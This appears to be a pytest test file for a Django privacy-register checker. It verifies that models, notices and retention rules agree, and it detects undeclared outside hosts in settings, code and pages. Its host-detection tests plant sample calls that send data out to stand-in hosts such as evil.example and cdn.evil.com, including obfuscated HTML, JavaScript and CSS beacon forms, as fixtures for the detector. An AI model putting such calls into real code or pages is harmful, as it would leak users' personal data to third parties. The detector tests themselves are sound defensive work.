"""The build turns red when code, register and notice say different things."""

import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.apps.registry import Apps
from django.core.checks import CheckMessage, run_checks
from django.core.management import call_command
from django.core.management.base import SystemCheckError
from django.db import models
from pytest_django import Settings

from config.mail import mailers
from groundwork.personal_data import Category, Held, NoPersonalData, PersonalData
from processing_register import checks, hosts
from processing_register.models import Controller, NoticeVersion
from processing_register.notices import notice_in_force
from processing_register.plain_words import WHY
from processing_register.register import Purpose, Register, the_register
from subscribers.models import Subscriber

TELEPHONE = {"telephone": Category.CONTACT}


def house(**changes: Any) -> Register:
    return replace(the_register(), **changes)


def ids(found: list[CheckMessage]) -> list[str]:
    return [str(message.id).split(".")[1] for message in found]


def model_of(declared: Any, *, name: str = "Visitor") -> Any:
    """A model with a telephone field, in a registry that ends with the test."""
    meta = type("Meta", (), {"app_label": "subscribers", "apps": Apps()})
    body = {
        "__module__": "subscribers.models",
        "telephone": models.CharField(max_length=20),
        "Meta": meta,
    }
    if declared is not None:
        body["personal_data"] = declared
    return type(name, (models.Model,), body)


def personal(**changes: Any) -> PersonalData:
    said: dict[str, Any] = {
        "fields": TELEPHONE,
        "purpose": "case-updates",
        "source": "person",
        "retention": "current-reader",
        "others": "",
    }
    return PersonalData(**(said | changes))


def check(model: Any, register: Register | None = None) -> list[CheckMessage]:
    register = register or the_register()
    return checks.check_model(model, register, checks.newest_privacy(register))


def test_the_house_as_it_stands_passes() -> None:
    assert run_checks() == []


def test_a_declared_model_passes() -> None:
    assert check(model_of(personal())) == []


def test_a_model_that_says_nothing_is_found() -> None:
    assert ids(check(model_of(None))) == ["E002"]


def test_a_field_that_nobody_declared_is_found() -> None:
    found = check(model_of(personal(fields={})))

    assert ids(found) == ["E003"]
    assert "subscribers.Visitor.telephone is not declared" in found[0].msg


def test_an_undeclared_field_is_found_where_no_personal_data_is_claimed() -> None:
    assert ids(check(model_of(NoPersonalData("none at all", others="")))) == ["E003"]
    assert check(model_of(NoPersonalData("none at all", others="telephone"))) == []


def test_a_field_taken_from_a_real_declaration_turns_the_command_red(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    said = Subscriber.personal_data
    fields = {name: kind for name, kind in said.fields.items() if name != "employer"}
    monkeypatch.setattr(Subscriber, "personal_data", replace(said, fields=fields))

    with pytest.raises(SystemCheckError, match=r"subscribers\.Subscriber\.employer"):
        call_command("check")


def test_a_field_declared_twice_or_not_there_is_found() -> None:
    assert ids(check(model_of(personal(others="telephone")))) == ["E004"]
    assert ids(check(model_of(personal(others="fax")))) == ["E004"]


@pytest.mark.parametrize(
    ("named", "words"),
    [
        ({"purpose": "astrology"}, "no purpose “astrology”"),
        ({"source": "gossip"}, "no source “gossip”"),
        ({"retention": "for-ever"}, "no retention rule “for-ever”"),
    ],
)
def test_a_key_that_the_register_does_not_have_is_found(
    named: dict[str, str], words: str
) -> None:
    found = check(model_of(personal(**named)))

    assert "E005" in ids(found)
    assert any(words in message.msg for message in found)


@pytest.mark.parametrize(
    ("named", "words"),
    [
        ({"source": "electoral-register"}, "the source “electoral-register”"),
        ({"retention": "call-recordings"}, "the retention rule “call-recordings”"),
    ],
)
def test_what_the_purpose_does_not_list_is_found(
    named: dict[str, str], words: str
) -> None:
    found = check(model_of(personal(**named)))

    assert ids(found) == ["E012"]
    assert f"“case-updates” does not list {words}" in found[0].msg


def test_a_real_field_kept_for_another_period_turns_the_command_red(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    said = Subscriber.personal_data
    kept = Held(Category.IDENTITY, retention="customer-records")
    fields = {**said.fields, "employer": kept}
    monkeypatch.setattr(Subscriber, "personal_data", replace(said, fields=fields))

    with pytest.raises(SystemCheckError, match=r"Subscriber\.employer: the purpose"):
        call_command("check")


def test_data_that_the_purpose_does_not_need_is_found() -> None:
    found = check(model_of(personal(fields={"telephone": Category.FINANCIAL})))

    assert ids(found) == ["E006"]
    assert "“financial” data is not among what the purpose “case-updates” needs" in (
        found[0].msg
    )


def test_a_kind_of_data_that_is_not_collected_is_found() -> None:
    known = the_register().categories
    closed = {**known, "contact": replace(known["contact"], is_collected=False)}

    assert ids(check(model_of(personal()), house(categories=closed))) == ["E006"]


def without(notice: str, **left_out: str) -> Register:
    """The register as if its newest privacy notice did not name something."""
    register = the_register()
    newest = checks.newest_privacy(register)
    assert newest is not None
    assert newest.notice == notice
    changes: dict[str, Any] = {
        name: tuple(key for key in getattr(newest, name) if key != gone)
        for name, gone in left_out.items()
    }
    versions = [v for v in register.versions if v != newest]
    return house(versions=(*versions, replace(newest, **changes)))


def test_a_purpose_that_the_notice_does_not_name_is_found() -> None:
    register = without("privacy", purposes="case-updates")

    found = check(model_of(personal()), register)
    assert ids(found) == ["E008"]
    assert "purpose “case-updates”, which privacy/2 does not name" in found[0].msg
    assert "E008" in ids(checks.check_notice(register, checks.newest_privacy(register)))


def test_a_kind_of_data_that_the_notice_does_not_name_is_found() -> None:
    register = without("privacy", categories="contact")

    assert ids(check(model_of(personal()), register)) == ["E008"]


def test_a_purpose_new_in_the_register_turns_the_command_red(
    settings: Settings, tmp_path: Path
) -> None:
    folder = tmp_path / "register"
    copy_register(folder)
    purposes = folder / "purposes.toml"
    new = purposes.read_text().split("[[purposes]]")[1]
    purposes.write_text(
        purposes.read_text() + "\n[[purposes]]" + new.replace("case-updates", "lottery")
    )
    settings.REGISTER_DIR = folder
    the_register.cache_clear()

    with pytest.raises(SystemCheckError, match="purpose “lottery”, which privacy/2"):
        call_command("check")


def test_a_register_that_changed_since_the_notice_is_found(
    settings: Settings, tmp_path: Path
) -> None:
    folder = tmp_path / "register"
    copy_register(folder)
    rules = folder / "retention.toml"
    rules.write_text(rules.read_text().replace("P28D", "P400D"))
    settings.REGISTER_DIR = folder
    the_register.cache_clear()

    with pytest.raises(SystemCheckError, match="Write the next version") as red:
        call_command("check")
    assert "privacy-2" in str(red.value) and "retention-1" in str(red.value)


def test_a_register_that_cannot_be_read_is_one_clear_error(
    settings: Settings, tmp_path: Path
) -> None:
    settings.REGISTER_DIR = tmp_path / "nowhere"
    the_register.cache_clear()

    found = checks.code_keeps_to_the_register(None)

    assert ids(found) == ["E001"]
    assert "categories.toml cannot be read" in found[0].msg


def test_words_that_no_mail_may_hold_are_one_error_each_with_why(
    own_register: Path,
) -> None:
    versions = own_register / "notices/versions.toml"
    text = versions.read_text()
    told = 'summary_of_changes = "It names every purpose'
    assert told in text
    said = told.replace("It names", "A free quote, and a voucher. It names")
    versions.write_text(text.replace(told, said))
    the_register.cache_clear()

    found = [
        one for one in checks.code_keeps_to_the_register(None) if "E013" in str(one.id)
    ]

    assert [one.msg.split(": ")[1] for one in found] == [
        "“free quote” reads like advertising. Say it in other words.",
        "“voucher” reads like advertising. Say it in other words.",
    ]
    assert {one.hint for one in found} == {WHY}


def copy_register(folder: Path) -> None:
    shutil.copytree(REGISTER, folder)


REGISTER = Path(checks.__file__).parent / "register"


@pytest.fixture(autouse=True)
def fresh_register() -> Any:
    the_register.cache_clear()
    yield
    the_register.cache_clear()


# --- Hosts ---


def test_a_host_that_no_recipient_explains_turns_the_command_red(
    settings: Settings,
) -> None:
    settings.MAILERS = mailers("smtp://smtp.sendgrid.net:587")

    with pytest.raises(
        SystemCheckError, match=r"EMAIL_URL calls smtp\.sendgrid\.net"
    ) as red:
        call_command("check")
    assert "processing_register.E011" in str(red.value)


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "[::1]", "localhost", "relay", "updates.example.co.uk"],
)
def test_this_set_up_itself_needs_no_recipient(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    settings.SITE_HOST = "updates.example.co.uk"
    settings.MAILERS = mailers(f"smtp://{host}:25")
    settings.REDIS_URL = f"redis://{host}:6379/0"
    monkeypatch.setitem(settings.DATABASES["default"], "HOST", "/var/run/postgresql")

    assert hosts.hosts_of_settings() == {}


def test_an_enabled_recipient_explains_its_hosts(
    settings: Settings, own_register: Path
) -> None:
    settings.MAILERS = mailers("smtp://smtp.example.net:587")
    recipients = own_register / "recipients.toml"
    carrier = 'what_for = "Carries our e-mails to your mailbox"'
    paper = 'agreement = "DPA-1"\nhosts = ["smtp.example.net"]'
    known = recipients.read_text().replace(carrier, f"{carrier}\n{paper}")

    recipients.write_text(known)
    the_register.cache_clear()
    assert ids(checks.every_host_is_explained(None)) == ["E011"]

    recipients.write_text(known.replace(paper, f"{paper}\nis_enabled = true"))
    the_register.cache_clear()
    assert checks.every_host_is_explained(None) == []


def test_every_setting_that_calls_out_is_looked_at(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.INBOUND_IMAP_URL = "imaps://us:secret@imap.example.com/INBOX"
    settings.ANALYTICS_HOST = "https://count.example.com"
    settings.REDIS_URL = "rediss://cache.example.com:6380/0"
    monkeypatch.setitem(settings.DATABASES["default"], "HOST", "10.0.0.7")
    settings.MAILERS = mailers("anymail+postmark://")

    assert hosts.hosts_of_settings() == {
        "INBOUND_IMAP_URL": "imap.example.com",
        "ANALYTICS_HOST": "count.example.com",
        "REDIS_URL": "cache.example.com",
        "DATABASE_URL": "10.0.0.7",
        "EMAIL_URL": "postmark",
    }


def test_a_host_written_into_the_code_turns_the_command_red(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = tmp_path / "subscribers"
    app.mkdir()
    call = 'urlopen("https://evil.example/collect")\n'
    (app / "signup.py").write_text(f"from urllib.request import urlopen\n\n{call}")
    (tmp_path / "manage.py").write_text("")
    monkeypatch.setattr(apps.get_app_config("subscribers"), "path", str(app))
    settings.BASE_DIR = tmp_path

    with pytest.raises(
        SystemCheckError, match=r"signup\.py, line 3 calls evil\.example"
    ):
        call_command("check")


def test_the_code_as_it_stands_calls_nobody() -> None:
    assert hosts.hosts_in_code() == set()
    read = {path.relative_to(REGISTER.parents[1]) for path in hosts._own_files()}
    assert {Path("config/settings.py"), Path("outbox/delivery.py")} <= read


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ('get("https://Evil.Example./x")', ["evil.example"]),
        ('get(f"http://evil.example/{person}")', ["evil.example"]),
        (
            'HOST = "see http://one.example and https://two.example:8000/"',
            ["one.example", "two.example"],
        ),
        ('get("https://us:secret@evil.example/")', ["evil.example"]),
        ('"""Described at https://docs.example."""', []),
        ("get(url)  # such as https://docs.example", []),
    ],
)
def test_what_calls_is_told_from_what_explains(source: str, found: list[str]) -> None:
    assert [host for _, host in hosts.written_in(source)] == found


@pytest.mark.parametrize(
    ("file", "planted"),
    [
        ("templates/base.html", '<script src="https://cdn.evil.com/x.js"></script>'),
        ("static/js/choice.js", 'fetch("https://cdn.evil.com/collect");'),
        ("static/css/site.css", "@import url(https://cdn.evil.com/x.css);"),
        ("consent/script/consent.js", 'import("https://cdn.evil.com/x.js");'),
    ],
)
def test_a_host_that_a_page_calls_turns_the_command_red(
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    file: str,
    planted: str,
) -> None:
    path = tmp_path / file
    path.parent.mkdir(parents=True)
    path.write_text(f"\n{planted}\n")
    (tmp_path / "manage.py").write_text("")
    monkeypatch.setattr(
        apps.get_app_config("consent"), "path", str(tmp_path / "consent")
    )
    settings.BASE_DIR = tmp_path

    with pytest.raises(SystemCheckError, match=rf"{file}, line 2 calls cdn\.evil\.com"):
        call_command("check")


def test_the_pages_as_they_stand_call_nobody() -> None:
    assert hosts.hosts_in_pages() == set()
    root = REGISTER.parents[1]
    read = {str(path.relative_to(root)) for path in hosts._files_for_browsers()}
    assert {
        "templates/base.html",
        "static/js/cookie_choice.js",
        "static/css/site.css",
        "static/img/favicon.svg",
        "consent/script/consent.js",
    } <= read


def test_an_explained_host_hides_no_other_one_on_its_line(
    settings: Settings, tmp_path: Path
) -> None:
    (tmp_path / "static").mkdir()
    script = tmp_path / "static/all.js"
    script.write_text('get("https://one.example");get("https://two.example")')
    (tmp_path / "manage.py").write_text("")
    settings.BASE_DIR = tmp_path

    found = {host for _, host in hosts.hosts_in_pages()}

    assert found == {"one.example", "two.example"}


@pytest.mark.parametrize(
    "page",
    [
        '<img src="https://evil.example/x.png">',
        "<img src=//evil.example/x.png>",
        "<img src = 'HTTPS://us@Evil.Example:8000/x.png'>",
        '<img src="https:&#47;&#47;evil.example/x.png">',
        '<img src="\\\\evil.example/x.png">',
        '<img srcset="/a.png 1x, //evil.example/b.png 2x">',
        '<img alt="a > b" src="https://evil.example/x.png">',
        '<img {% if a > b %}src="https://evil.example/{{ x }}"{% endif %}>',
        '<form\n method="post"\n action="https://evil.example/{% url "x" %}">',
        '<button formaction="https://evil.example">',
        '<link rel="preconnect" href="https://evil.example">',
        '<a href="/" ping="https://evil.example/ping">',
        "<a onclick=\"fetch('//evil.example')\">",
        '<p style="background: url(//evil.example/x.png)">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<style>p { background: url( https://evil.example/x.png ) }</style>",
        "<script>\nimport x from '//evil.example/x.js'\n</script>",
        '{% with cdn="https://evil.example" %}<img src="{{ cdn }}/x">{% endwith %}',
        '<svg><use xlink:href="https://evil.example/x.svg#y"/></svg>',
    ],
)
def test_what_a_page_has_fetched_is_found(page: str) -> None:
    assert {host for _, host in hosts.fetched_by(page, ".html")} == {"evil.example"}


@pytest.mark.parametrize(
    "page",
    [
        '<a class="x" href="https://regulator.example/">Complain</a>',
        '<a {% if x %}class="y"{% endif %} href="https://regulator.example/">Go</a>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://ns.example/x">',
        "{# as in https://docs.example #}",
        "{% comment %}\n<img src='https://docs.example'>\n{% endcomment %}",
        "<p>Type https://docs.example into your browser.</p>",
        '<input placeholder="https://docs.example">',
        '<img src="{{ base }}/x.png"><img src="https://{{ host }}/x.png">',
        '<img src="/a//b.png">',
    ],
)
def test_what_people_follow_or_read_is_no_call(page: str) -> None:
    found = [host for _, host in hosts.fetched_by(page, ".html")]
    assert [host for host in found if not hosts._is_ours(host)] == []


@pytest.mark.parametrize(
    ("source", "suffix", "found"),
    [
        ("import 'https://evil.example/x.js'", ".js", [(1, "evil.example")]),
        ("\n\nnew URL(`//evil.example/${x}`)", ".js", [(3, "evil.example")]),
        ('new WebSocket("wss://evil.example")', ".js", [(1, "evil.example")]),
        ('x = "https:\\/\\/evil.example"', ".js", [(1, "evil.example")]),
        ('/* why */ get("https://evil.example")', ".js", [(1, "evil.example")]),
        ("/* a\n b */\nget('https://evil.example')", ".js", [(3, "evil.example")]),
        ("  // see https://docs.example", ".js", []),
        ("/* see\n https://docs.example */", ".js", []),
        ('make("http://www.w3.org/2000/svg", "path")', ".js", []),
        ("from(`https://${host}/x`)", ".js", []),
        ('@import "//evil.example/x.css";', ".css", [(1, "evil.example")]),
        ("p {\n b: url( //evil.example/x )}", ".css", [(2, "evil.example")]),
        ("// url(https://evil.example/x)", ".css", [(1, "evil.example")]),
        ("@namespace url(http://www.w3.org/1999/xhtml);", ".css", []),
    ],
)
def test_what_a_script_or_a_style_sheet_calls_is_found(
    source: str, suffix: str, found: list[tuple[int, str]]
) -> None:
    assert list(hosts.fetched_by(source, suffix)) == found


# --- The database ---


@pytest.mark.django_db
def test_what_is_published_here_is_held_against_the_register(open_house: None) -> None:
    assert "E010" not in ids(checks.what_is_published_is_what_is_done(None))

    version = notice_in_force("privacy")
    version.names = {**version.names, "purposes": []}
    assert len(checks.check_published(the_register(), version)) == len(
        the_register().purposes
    )


@pytest.mark.django_db
def test_a_notice_that_the_register_left_behind_is_found(open_house: None) -> None:
    version = notice_in_force("privacy")
    version.source += "\n\n{{retention}}\n"

    found = checks.check_published(the_register(), version)

    assert ids(found) == ["E010"]
    assert "no longer says what the register" in found[0].msg


@pytest.mark.django_db
@pytest.mark.parametrize("options", [{}, {"databases": ["default"]}])
def test_a_changed_controller_turns_the_deploy_check_red(
    open_house: None, options: dict[str, list[str]]
) -> None:
    Controller.objects.update(phone_display="01332 000000")

    with pytest.raises(SystemCheckError, match="no longer says what the reg") as red:
        call_command("check", deploy=True, **options)
    assert str(red.value).count("processing_register.E010") == 1


@pytest.mark.django_db
def test_a_database_without_our_tables_is_one_clear_warning(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(NoticeVersion._meta, "db_table", "not_migrated_yet")

    found = checks.what_is_published_is_what_is_done(None)

    assert ids(found) == ["W001"]
    assert "manage.py prepare" in str(found[0].hint)


@pytest.mark.django_db
def test_an_empty_database_has_nothing_to_compare(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(
        checks, "notice_in_force", lambda notice: NoticeVersion.objects.none().get()
    )

    assert checks.what_is_published_is_what_is_done(None) == []


def test_what_only_the_controller_can_settle_is_told() -> None:
    found = checks.check_open_questions()

    assert set(ids(found)) == {"I001"}
    assert any("company’s number" in message.msg.replace("'", "’") for message in found)


def test_every_installed_model_declares() -> None:
    missing = [m._meta.label for m in apps.get_models() if not checks.declaration_of(m)]

    assert missing == []


def test_a_purpose_knows_whether_it_weighs_interests() -> None:
    purposes: dict[str, Purpose] = dict(the_register().purposes)

    assert purposes["analytics"].rests_on_interests
    assert not purposes["case-updates"].rests_on_interests
